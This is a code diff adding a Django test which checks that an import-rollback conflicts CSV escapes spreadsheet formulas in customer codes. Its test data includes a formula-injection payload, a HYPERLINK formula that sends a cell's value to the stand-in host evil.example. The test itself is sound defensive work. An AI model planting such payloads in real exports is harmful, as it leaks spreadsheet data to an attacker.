@@ -1,7 +1,9 @@
 """Undo states in the admin: what an import did, and rolling it back from a confirmation
 page that shows the conflicts and proceeds over them only when the operator ticks the box."""
 
+import csv
 import datetime
+import io
 
 import pytest
 from django.urls import reverse
@@ -26,6 +28,7 @@ from customers.rollback_messages import (
     WILL_REMOVE,
     WILL_RESTORE,
 )
+from customers.spreadsheet import FORMULA_START
 from tests.admin import customer_form, messages_of
 from tests.conftest import POINTS
 
@@ -321,3 +324,26 @@ def test_an_undo_states_parameters_are_a_readable_list(staff_client, imports):
     ):
         assert f"<li>{escape(line)}</li>" in html
     assert "overwrite_duplicates" not in html
+
+
+FORMULA_CODES = ('=HYPERLINK("http://evil.example/"&A1,"x")', "-2+3", "@SUM(1)")
+
+
+def test_the_conflicts_file_starts_no_cell_with_a_formula(staff_client, run_import):
+    """Red team: customer codes sent through the API came out of the rollback's conflicts
+    CSV as live formulas."""
+    data = "\n".join(f"{code}|a" for code in FORMULA_CODES)
+    first = run_import(data=data)
+    run_import(data=data.replace("|a", "|b"), overwrite_duplicates="update")
+    state = UndoState.objects.get(pk=first.undo_state_id)
+
+    response = staff_client.get(
+        reverse("admin:customers_undostate_change", args=[state.pk]).replace(
+            "/change/", "/rollback/conflicts.csv"
+        )
+    )
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))
+
+    codes = {row[0] for row in rows[1:]}
+    assert codes == {"'" + code for code in FORMULA_CODES}
+    assert not any(cell.startswith(FORMULA_START) for row in rows for cell in row)
